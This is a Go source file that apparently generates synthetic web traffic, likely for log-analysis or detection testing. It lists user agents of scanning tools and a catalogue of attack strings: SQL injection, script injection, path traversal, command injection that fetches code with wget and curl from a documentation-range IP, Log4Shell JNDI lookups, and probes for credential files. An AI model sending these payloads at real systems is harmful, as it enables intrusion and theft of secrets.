package traffic

var sites = []string{"www.example.com", "shop.example.com", "api.example.net", "blog.example.org", "intranet.test"}

var pages = []string{
	"/", "/index.html", "/favicon.ico", "/robots.txt", "/css/site.css", "/js/app.min.js", "/img/logo.png", "/img/header.jpg",
	"/about", "/contact", "/products", "/products/42", "/products/1087", "/cart", "/checkout", "/login", "/logout", "/account",
	"/search?q=", "/search?lang=en&q=", "/tag/", "/news/2025/01/opening-hours", "/news/2025/01/select-from-our-range",
	"/api/v1/items", "/api/v1/items/7?expand=price", "/api/v1/users/me", "/download/manual.pdf", "/feed.xml", "/sitemap.xml",
	"/docs/union-of-sets", "/docs/script-language", "/help?topic=",
}

var forms = []string{"/login", "/contact", "/api/v1/comments", "/checkout", "/account/edit"}

var words = []string{
	"tiger", "river", "stone", "lamp", "garden", "paper", "window", "bridge", "copper", "winter", "harbour", "valley", "cloud",
	"pencil", "market", "orange", "silver", "kettle", "ladder", "forest", "selection", "unions", "description", "passwords",
}

// browsers; the number is a version.
var browsers = []string{
	"Mozilla/5.0 (X11; Linux x86_64; rv:%[1]d.0) Gecko/20100101 Firefox/%[1]d.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.%d Safari/605.1.15",
	"Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Mobile Safari/537.36",
	"curl/8.%d.0",
}

var scanners = []string{
	"sqlmap/1.8#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", "masscan/1.3",
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "gobuster/3.6", "WPScan v3.8.25",
	"Mozilla/5.0 zgrab/0.x", "Fuzz Faster U Fool v2.1.0", "nuclei/3.1", "DirBuster-1.0-RC1", "w3af.org", "acunetix-scan", "python-requests/2.31",
}

// attacks: those that begin with a slash are whole targets, those with ${ go into a header, the rest are values.
var attacks = []string{
	// SQL injection
	"1%27%20OR%20%271%27=%271", "1'+or+1=1--", "-1%20UNION%20SELECT%20null,version(),null--", "1;DROP%20TABLE%20users--",
	"1%20AND%20SLEEP(5)", "1'%20AND%20BENCHMARK(5000000,MD5(1))--", "admin'--", "1+union+all+select+1,table_name+from+information_schema.tables",
	"1;WAITFOR%20DELAY%20'0:0:5'--", "1'%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,USER()))--", "1%20INTO%20OUTFILE%20'/var/www/x.php'",
	// script injection
	"%3Cscript%3Ealert(1)%3C/script%3E", "<script>alert(document.cookie)</script>", "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
	"<svg/onload=alert(1)>", "javascript:alert(1)", "%3Ciframe%20src=javascript:alert(1)%3E", "<body%20onload=alert('x')>",
	// traversal and inclusion
	"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/passwd", "%2e%2e/%2e%2e/boot.ini",
	"php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "http://198.51.100.7/shell.txt?", "/proc/self/environ",
	// commands
	";cat%20/etc/passwd", "|id", "`wget%20http://198.51.100.7/x.sh`", "$(curl%20http://198.51.100.7/x)", "%0aping%20-c%201%20198.51.100.7",
	"() { :; }; /bin/bash -c id", "{{7*7}}", "<%=%207*7%20%>",
	// log4j
	"${jndi:ldap://198.51.100.7:1389/a}", "${${lower:j}ndi:rmi://198.51.100.7/a}", "${jndi:dns://x.attacker.test/a}",
	// what scanners look for
	"/.git/config", "/.env", "/wp-login.php", "/wp-admin/setup-config.php", "/phpmyadmin/index.php", "/cgi-bin/test.cgi", "/server-status",
	"/admin/config.php", "/manager/html", "/.aws/credentials", "/backup.sql", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/shell.php?cmd=id", "/actuator/env", "/console/", "/solr/admin/info/system", "/boaform/admin/formLogin", "/HNAP1/",
}
